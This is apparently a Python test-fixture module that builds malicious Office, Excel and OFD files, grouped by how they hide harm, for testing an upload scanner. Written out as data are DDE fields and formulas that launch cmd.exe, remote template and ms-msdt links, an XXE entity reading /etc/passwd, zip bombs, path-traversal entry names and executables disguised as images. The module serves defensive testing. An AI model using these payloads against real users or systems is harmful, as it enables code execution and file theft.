"""Documents and workbooks that mean harm, by how they hide it."""

import struct
from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_STORED, ZipFile, ZipInfo

from tests.support.files import image, package
from tests.support.uploads import good, ofds
from tests.support.uploads.office import (
    FORMATS,
    HEAD,
    MICROSOFT,
    OFFICE,
    PACKAGE,
    STRICT,
    WORD,
    WPS,
    Package,
    W,
    book,
    field_of,
    word,
)

Maker = Callable[[], bytes]
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)
PAGE = "<!doctype html><script>alert(1)</script>"
TEMPLATE = "http://1.2.3.4/x.dotm"
SETTINGS = "word/settings.xml"


def hostile_office() -> dict[str, tuple[Maker, str]]:
    """What it is → (maker, name of the cause)."""
    return {**_reaching(), **_carrying(), **_acting(), **_markup(), **_archives(), **_ofds()}


def _templated(encoding: str = "utf-8", **changes: str) -> Package:
    made = word()
    made.encoding = encoding
    made.relate(f"{OFFICE}/settings", "settings.xml").add(SETTINGS, f"<w:settings {W}/>", f"{WORD}.settings+xml")
    told = {"kind": f"{OFFICE}/attachedTemplate", "target": TEMPLATE, "mode": "External"} | changes
    return made.relate(told["kind"], told["target"], of=SETTINGS, mode=told["mode"])


def _reaching() -> dict[str, tuple[Maker, str]]:
    """What makes an office fetch from elsewhere of itself."""

    def related(kind: str, target: str, mode: str = "External") -> Maker:
        return lambda: word().relate(f"{OFFICE}/{kind}", target, mode=mode).bytes()

    def prefixed() -> bytes:
        made = word()
        text = f"<p:Relationships xmlns:p='{PACKAGE}'><p:Relationship Id='a' Type='{OFFICE}/attachedTemplate'"
        return made.add(
            "word/_rels/settings.xml.rels", f"{text} Target='{TEMPLATE}' TargetMode='External'/></p:Relationships>"
        ).bytes()

    return {
        "a template on the net": (lambda: _templated().bytes(), "LINKED"),
        "a template, said in UTF-16": (lambda: _templated("utf-16").bytes(), "LINKED"),
        "a template, said in UTF-16 without a mark": (lambda: _templated("utf-16-le").bytes(), "LINKED"),
        "a template by a prefix and other quotes": (prefixed, "LINKED"),
        "a template by entities": (
            lambda: _templated(kind=OFFICE + "/att&#97;chedTemplat&#x65;").bytes(),
            "LINKED",
        ),
        "a template in the strict tongue": (lambda: _templated(kind=f"{STRICT}/attachedTemplate").bytes(), "LINKED"),
        "a template said to lie within": (lambda: _templated(mode="Internal").bytes(), "LINKED"),
        "a template for a link": (
            lambda: _templated(kind=f"{OFFICE}/hyperlink", target="file:///C:/x").bytes(),
            "LINKED",
        ),
        "a mode that nobody knows": (related("hyperlink", "http://a/", "external "), "BROKEN"),
        "styles on the net": (related("styles", "http://1.2.3.4/styles.xml"), "LINKED"),
        "styles on the net, said to lie within": (related("styles", "http://1.2.3.4/styles.xml", "Internal"), "LINKED"),
        "a picture on the net": (related("image", "http://1.2.3.4/x.png"), "LINKED"),
        "a picture on a share": (related("image", "\\\\1.2.3.4\\x.png"), "LINKED"),
        "a link that runs": (related("hyperlink", "javascript:alert(1)"), "LINKED"),
        "a link that runs, with a line break": (related("hyperlink", "http://a/&#10;javascript:alert(1)"), "LINKED"),
        "a link to a program": (related("hyperlink", "file:///C:/Windows/System32/calc.exe"), "LINKED"),
        "a link to a handler": (related("hyperlink", "ms-msdt:/id PCWDiagnostic"), "LINKED"),
        "a frame": (related("frame", "http://1.2.3.4/"), "LINKED"),
        "a document within on the net": (related("subDocument", "http://1.2.3.4/x.docx"), "LINKED"),
        "a picture by its address": (
            lambda: word('<v:imagedata xmlns:v="v" src="http://1.2.3.4/x.png"/>').bytes(),
            "LINKED",
        ),
        "a picture by a field": (
            lambda: word(field_of(' INCLUDEPICTURE "http://1.2.3.4/x.png" \\d ')).bytes(),
            "LINKED",
        ),
        "a picture by a field, on a share": (
            lambda: word(field_of(' INCLUDEPICTURE \\d "\\\\\\\\1.2.3.4\\\\x.png" ')).bytes(),
            "LINKED",
        ),
        "a text by a field": (lambda: word(field_of(' INCLUDETEXT "http://1.2.3.4/x.docx" ')).bytes(), "ACTIVE"),
        "a letter to many with its own source": (
            lambda: word('<w:mailMerge><w:connectString w:val="Provider=x"/></w:mailMerge>').bytes(),
            "LINKED",
        ),
        "another workbook": (
            lambda: book().relate(f"{OFFICE}/externalLink", "externalLinks/externalLink1.xml").bytes(),
            "LINKED",
        ),
        "a connection to data": (lambda: book().relate(f"{OFFICE}/connections", "connections.xml").bytes(), "LINKED"),
        "a page that Excel fetches": (lambda: _formula('WEBSERVICE("http://1.2.3.4/")'), "ACTIVE"),
    }


def _carrying() -> dict[str, tuple[Maker, str]]:
    """What hides another file."""

    def part(name: str, content: bytes | str, kind: str) -> Maker:
        return lambda: word().add(name, content, kind).bytes()

    def ended(ending: str, kind: str, content: bytes | str) -> Maker:
        def make() -> bytes:
            made = word()
            made.endings[ending] = kind
            return made.add(f"word/media/a.{ending}", content).bytes()

        return make

    def chunk() -> bytes:
        return word().relate(f"{OFFICE}/aFChunk", "a.dat").add("word/a.dat", PAGE, "application/xml").bytes()

    def nested(kind: str = "package") -> Package:
        made = word().relate(f"{OFFICE}/{kind}", "embeddings/a.docx")
        return made.add("word/embeddings/a.docx", word().bytes(), f"{WORD}.document")

    def macros() -> bytes:
        inside = book()
        inside.kinds[inside.main] = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
        return inside.bytes()

    def droste() -> bytes:
        return good.charted(good.charted().bytes()).bytes()

    return {
        "a document in a document": (lambda: nested().bytes(), "STOWED"),
        "a document in a document, not said": (
            lambda: word().add("word/embeddings/a.docx", word().bytes()).bytes(),
            "FOREIGN",
        ),
        "macros behind a chart": (lambda: good.charted(macros()).bytes(), "ACTIVE"),
        "a document behind a chart": (lambda: good.charted(word().bytes()).bytes(), "STOWED"),
        "a chart behind a chart": (droste, "STOWED"),
        "no workbook behind a chart": (lambda: good.charted(OLE).bytes(), "BROKEN"),
        "an embedded object": (
            lambda: (
                word().relate(f"{OFFICE}/oleObject", "a.bin").add("word/a.bin", OLE, f"{FORMATS}.oleObject").bytes()
            ),
            "STOWED",
        ),
        "an embedded object called a picture": (ended("png", "image/png", OLE), "STOWED"),
        "a program called a picture": (ended("png", "image/png", b"MZ\x90\0"), "STOWED"),
        "a program called a font": (ended("odttf", f"{FORMATS}.obfuscatedFont", b"MZ\x90\0"), "STOWED"),
        "an archive called a setting": (ended("bin", f"{WORD}.printerSettings", word().bytes()), "STOWED"),
        "a program": (ended("exe", "application/x-msdownload", b"MZ"), "STOWED"),
        "a page as a chunk": (chunk, "STOWED"),
        "a page as a part": (part("word/a.html", PAGE, "text/html"), "FOREIGN"),
        "a part of a kind that nobody knows": (part("word/a.bin", b"\1\2", "application/vnd.acme.thing"), "FOREIGN"),
        "a part of no kind": (part("word/setup.exe", b"MZ", ""), "FOREIGN"),
        "a model in three dimensions": (
            lambda: word().relate(f"{MICROSOFT}/2017/06/relationships/model3d", "media/a.glb").bytes(),
            "FOREIGN",
        ),
    }


def _acting() -> dict[str, tuple[Maker, str]]:
    """What starts something."""

    def kinds(made: Package, kind: str) -> bytes:
        made.kinds[made.main] = kind
        return made.bytes()

    def related(kind: str, target: str = "a.bin") -> Maker:
        return lambda: word().relate(kind, target).add(f"word/{target}", b"\1", "application/vnd.ms-office.x").bytes()

    def drawn(svg: str) -> Maker:
        def make() -> bytes:
            made = word()
            made.endings["svg"] = "image/svg+xml"
            return made.add("word/media/a.svg", f'<svg xmlns="http://www.w3.org/2000/svg">{svg}</svg>').bytes()

        return make

    def dde(*codes: str) -> Maker:
        return lambda: word(field_of(*codes)).bytes()

    return {
        "macros by kind": (lambda: kinds(word(), "application/vnd.ms-word.document.macroEnabled.main+xml"), "ACTIVE"),
        "macros of Excel": (lambda: kinds(book(), "application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "ACTIVE"),
        "macros under another name": (
            lambda: word().add("word/media/a.png", OLE, "application/vnd.ms-office.vbaProject").bytes(),
            "ACTIVE",
        ),
        "macros by relation": (related(f"{MICROSOFT}/2006/relationships/vbaProject"), "ACTIVE"),
        "macros of Excel 4": (related(f"{MICROSOFT}/2006/relationships/xlMacrosheet"), "ACTIVE"),
        "a script of WPS": (related(f"{WPS}/2018/jdeExtension", "JDEData.bin"), "ACTIVE"),
        "a web extension of WPS": (related(f"{WPS}/2018/webExtension"), "ACTIVE"),
        "a web extension": (related(f"{MICROSOFT}/2011/relationships/webextensiontaskpanes"), "ACTIVE"),
        "a control": (related(f"{OFFICE}/control"), "ACTIVE"),
        "buttons of its own": (related(f"{MICROSOFT}/2007/relationships/ui/extensibility"), "ACTIVE"),
        "a template": (lambda: kinds(word(), f"{WORD}.template.main+xml"), "TYPE"),
        "a command by a field": (dde('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), "ACTIVE"),
        "a command by a field in pieces": (dde(" D", "DE", "AU", "TO cmd"), "ACTIVE"),
        "a command by a field in a field": (
            lambda: word(
                "<w:p>" + "<w:r><w:fldChar w:fldCharType='begin'/></w:r>" + field_of(" QUOTE 68 68 69 ") + "</w:p>"
            ).bytes(),
            "ACTIVE",
        ),
        "a command by a field without an end": (
            lambda: word("<w:p><w:fldChar w:fldCharType='begin'/><w:instrText>DDE cmd</w:instrText></w:p>").bytes(),
            "ACTIVE",
        ),
        "a command by a simple field": (lambda: word('<w:fldSimple w:instr="ddeauto cmd"/>').bytes(), "ACTIVE"),
        "a command in a header, which is called a style": (
            lambda: (
                word().add("word/styles.xml", f"<w:hdr {W}>{field_of('DDE cmd')}</w:hdr>", f"{WORD}.styles+xml").bytes()
            ),
            "ACTIVE",
        ),
        "a command by a formula": (lambda: _formula("cmd|'/c calc'!A0"), "ACTIVE"),
        "a program by a formula": (lambda: _formula('RTD("x.y",,"z")'), "ACTIVE"),
        "a command by a name": (
            lambda: book(
                more="<definedNames><definedName name='a'>cmd|'/c calc'!A0</definedName></definedNames>"
            ).bytes(),
            "ACTIVE",
        ),
        "a script in a drawing": (drawn("<script>alert(1)</script>"), "ACTIVE"),
        "a handler in a drawing": (drawn('<g onload="alert(1)"/>'), "ACTIVE"),
        "a page in a drawing": (drawn("<foreignObject/>"), "ACTIVE"),
        "a drawing that fetches": (drawn('<image href="http://1.2.3.4/x.png"/>'), "LINKED"),
    }


def _formula(formula: str) -> bytes:
    return book(f'<row r="1"><c r="A1"><f>{formula}</f><v>1</v></c></row>').bytes()


def _markup() -> dict[str, tuple[Maker, str]]:
    """XML that is more than XML."""
    laughs = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'

    def document(content: str | bytes) -> Maker:
        return lambda: word().add("word/document.xml", content, f"{WORD}.document.main+xml").bytes()

    return {
        "entities": (document(laughs), "BROKEN"),
        "entities in UTF-16": (document(laughs.encode("utf-16")), "BROKEN"),
        "entities in UTF-16 without a mark": (document(laughs.encode("utf-16-le")), "BROKEN"),
        "a DTD from elsewhere": (document('<!DOCTYPE l SYSTEM "http://1.2.3.4/x.dtd"><l/>'), "BROKEN"),
        "a file by an entity": (document('<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>'), "BROKEN"),
        "an encoding that hides": (document(b"<?xml version='1.0' encoding='windows-1252'?><l/>"), "BROKEN"),
        "an encoding with shifts": (document(b"<?xml version='1.0' encoding='utf-7'?><l/>"), "BROKEN"),
        "half an element": (document(HEAD + "<w:document"), "BROKEN"),
        "elements without end": (document("<a>" * 5000 + "</a>" * 5000), "SWOLLEN"),
        "kinds with a DTD": (lambda: replaced("[Content_Types].xml", laughs.encode()), "BROKEN"),
        "a part of two kinds": (_of_two_kinds, "BROKEN"),
        "two documents in one": (lambda: word().relate(f"{OFFICE}/officeDocument", "x.xml", of="").bytes(), "BROKEN"),
    }


def _archives() -> dict[str, tuple[Maker, str]]:
    plain = word().bytes

    def named(name: str) -> Maker:
        return lambda: word().add(name, "<a/>").bytes()

    return {
        "an archive": (lambda: package({"a.txt": "a"}), "TYPE"),
        "a Java archive": (lambda: package({"META-INF/MANIFEST.MF": "a", "A.class": b"\xca\xfe\xba\xbe"}), "TYPE"),
        "a presentation": (_presentation, "TYPE"),
        "a document without a document": (lambda: replaced("word/document.xml", None), "TYPE"),
        "a part above": (named("../../etc/passwd.xml"), "BROKEN"),
        "a part at the root": (named("/etc/passwd.xml"), "BROKEN"),
        "a part above by backslashes": (named("..\\..\\a.xml"), "BROKEN"),
        "a part on a drive": (named("C:/a.xml"), "BROKEN"),
        "a part twice": (_twice, "BROKEN"),
        "a document with a password": (lambda: _encrypted(plain()), "LOCKED"),
        "half a document": (lambda: plain()[:-30], "BROKEN"),
        "a document whose sum is wrong": (
            lambda: word().bytes(compression=ZIP_STORED).replace("总结".encode(), "总计".encode(), 1),
            "BROKEN",
        ),
        "a document and a page": (lambda: plain() + PAGE.encode(), "BROKEN"),
        "a document with a page as its remark": (lambda: word().bytes(comment=PAGE), "BROKEN"),
        "something between the parts": (_with_a_gap, "BROKEN"),
        "parts that share their data": (_overlapping, "BROKEN"),
        "parts packed in another way": (_packed_in_another_way, "BROKEN"),
        "a bomb": (_bomb, "SWOLLEN"),
        "a bomb that lies": (_lying_bomb, "BROKEN"),
        "too many parts": (lambda: _crowded(3100), "SWOLLEN"),
    }


def _ofds() -> dict[str, tuple[Maker, str]]:
    def acting(what: str, event: str = "CLICK") -> Maker:
        return lambda: ofds.ofd(page=ofds.action(what, event))

    return {
        "an OFD with a program": (lambda: ofds.ofd(Doc_0__Attachs__a_dot_exe=b"MZ"), "STOWED"),
        "an OFD with a program called a font": (lambda: ofds.ofd(Doc_0__Res__a_dot_ttf=b"MZ"), "STOWED"),
        "an OFD with a film": (lambda: ofds.ofd(Doc_0__Res__a_dot_mp4=b"\0\0\0\x18ftypmp42"), "STOWED"),
        "an OFD that opens a page of itself": (acting('<ofd:URI URI="http://1.2.3.4/"/>', "DO"), "ACTIVE"),
        "an OFD with a link that runs": (acting('<ofd:URI URI="javascript:alert(1)"/>'), "LINKED"),
        "an OFD that opens an attachment": (acting('<ofd:GotoA AttachID="1"/>'), "ACTIVE"),
        "an OFD that fetches": (lambda: ofds.ofd(more='<ofd:Page BaseLoc="http://1.2.3.4/p.xml"/>'), "LINKED"),
        "an OFD with entities": (
            lambda: ofds.ofd(Doc_0__a_dot_xml='<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'.encode("utf-16")),
            "BROKEN",
        ),
        "an OFD that is encrypted": (lambda: ofds.ofd(Encryptions_dot_xml="<a/>"), "LOCKED"),
        "an OFD that is none": (lambda: package({"OFD.xml": "<a/>"}), "TYPE"),
    }


def replaced(name: str, content: bytes | None) -> bytes:
    file = BytesIO()
    with ZipFile(BytesIO(word().bytes())) as source, ZipFile(file, "w") as target:
        for part in source.namelist():
            if part != name:
                target.writestr(part, source.read(part))
            elif content is not None:
                target.writestr(part, content)
    return file.getvalue()


def _presentation() -> bytes:
    made = word(name="ppt/presentation.xml")
    made.kinds[made.main] = f"{FORMATS}.presentationml.presentation.main+xml"
    return made.bytes()


def _of_two_kinds() -> bytes:
    kinds = (
        word().types().replace("</Types>", '<Override PartName="/word/document.xml" ContentType="image/png"/></Types>')
    )
    return replaced("[Content_Types].xml", kinds.encode())


def _twice() -> bytes:
    file = BytesIO(word().bytes())
    with ZipFile(file, "a") as archive:
        archive.writestr(ZipInfo("WORD/document.xml"), "<other/>")
    return file.getvalue()


def _bomb() -> bytes:
    return _pictured(bytes(25 * 1024 * 1024))


def _lying_bomb() -> bytes:
    """A part that declares one byte and unpacks to many."""
    size = len(image("PNG")) + 5_000_000
    return _pictured(bytes(5_000_000)).replace(struct.pack("<I", size), struct.pack("<I", 1))


def _pictured(content: bytes) -> bytes:
    made = word()
    made.endings["png"] = "image/png"
    return made.add("word/media/image1.png", image("PNG") + content).bytes()


def _encrypted(data: bytes) -> bytes:
    """The same archive with every part marked as encrypted."""
    marked = bytearray(data)
    for at in _directory(marked):
        marked[at + 8] |= 1
        (place,) = struct.unpack_from("<I", marked, at + 42)
        marked[place + 6] |= 1
    return bytes(marked)


def _directory(data: bytearray) -> list[int]:
    """Where the entries of the directory begin."""
    places, at = [], data.find(b"PK\x01\x02")
    while at >= 0:
        places.append(at)
        at = data.find(b"PK\x01\x02", at + 4)
    return places


def _with_a_gap() -> bytes:
    """A program between the last part and the directory, which no reader of archives would look at."""
    data, program = word().bytes(), b"\x7fELF" + bytes(300)
    start = struct.unpack_from("<I", data, len(data) - 6)[0]
    return data[:start] + program + data[start:-6] + struct.pack("<I", start + len(program)) + data[-2:]


def _overlapping() -> bytes:
    data = bytearray(word().bytes())
    for at in _directory(data):
        data[at + 42 : at + 46] = bytes(4)
    return bytes(data)


def _packed_in_another_way() -> bytes:
    data = bytearray(word().bytes())
    for at in _directory(data):
        data[at + 10 : at + 12] = struct.pack("<H", 14)
    return bytes(data)


def _crowded(parts: int) -> bytes:
    made = word()
    for number in range(parts):
        made.add(f"customXml/item{number}.xml", "<a/>")
    return made.bytes()
